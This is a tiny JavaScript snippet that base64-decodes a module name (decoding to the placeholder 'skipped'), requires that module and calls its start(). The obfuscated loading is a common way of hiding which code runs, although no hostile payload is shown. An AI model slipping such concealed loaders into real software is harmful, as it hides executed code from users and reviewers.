const load = (text) => Buffer.from(text, "base64").toString();
const own = require(load("c2tpcHBlZA=="));
own.start();
